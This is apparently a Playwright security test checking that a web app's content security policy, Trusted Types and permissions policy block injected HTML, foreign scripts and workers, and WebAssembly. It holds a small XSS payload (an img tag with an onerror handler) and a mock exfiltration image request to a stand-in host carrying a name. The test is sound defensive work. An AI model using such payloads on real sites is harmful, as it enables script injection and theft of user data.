import { expect } from 'playwright/test';

import { ownTest as test } from '../support/own-rampart.ts';
import { policyReportsIn } from '../support/policy-reports.ts';
import { enterAs } from '../support/sign-in.ts';

/** What the page may do of all that the browser can; hints of the browser itself (`ch-`) are sent to nobody else. */
const usedFeatures = [
  'autoplay',
  'camera',
  'clipboard-write',
  'publickey-credentials-create',
  'publickey-credentials-get',
];

test('what a page may not do is refused, reported and logged; features that it does not use are denied', async ({
  page,
  rampart,
}) => {
  await enterAs(page, 'admin');
  await page.goto('/settings?tab=connection');
  await expect(page.getByRole('button', { name: 'Check connection' })).toBeVisible();

  const features = await page.evaluate(() => {
    const { featurePolicy } = document as unknown as { featurePolicy: { allowedFeatures: () => string[] } };
    return featurePolicy.allowedFeatures().filter((feature) => !feature.startsWith('ch-'));
  });
  expect(features.toSorted()).toEqual(usedFeatures);

  const refused = await page.evaluate(() => {
    const image = '<img src="/x" onerror="document.title=1">';
    const tries: Readonly<Record<string, () => unknown>> = {
      elements: () => (document.createElement('p').innerHTML = image),
      document: () => document.write(image),
      'a program from elsewhere': () => new Worker('https://example.com/assets/a.js'),
      'a program of no build': () => new Worker('/api/environment'),
      'a script': () => (document.createElement('script').src = '/api/environment'),
      'a policy of its own': () =>
        (
          window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => void } }
        ).trustedTypes.createPolicy('own', {}),
    };
    return Object.entries(tries).flatMap(([name, attempt]) => {
      try {
        attempt();
        return [];
      } catch {
        return [name];
      }
    });
  });
  expect(refused).toEqual([
    'elements',
    'document',
    'a program from elsewhere',
    'a program of no build',
    'a script',
    'a policy of its own',
  ]);
  // A worker of its own may (web/workers/decode-heic-worker.ts); the page that starts it may not.
  const compiled = await page.evaluate(async () =>
    WebAssembly.compile(Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0)).then(
      () => true,
      () => false,
    ),
  );
  expect(compiled).toBe(false);
  await page.evaluate(() => {
    document.createElement('style').innerHTML = 'p { color: red }';
    const image = document.createElement('img');
    image.src = 'https://example.com/stolen?name=Ada';
    document.body.append(image);
  });

  const reported = () => policyReportsIn(rampart.output());
  const ofSinks = () => reported().filter((one) => one.startsWith('trusted-types-sink '));
  await expect.poll(() => ofSinks().length).toBe(5);
  await expect
    .poll(reported)
    .toEqual(expect.arrayContaining(['https://example.com img-src', 'wasm-eval script-src']));
  expect(rampart.output()).not.toMatch(/Ada|stolen/);
});
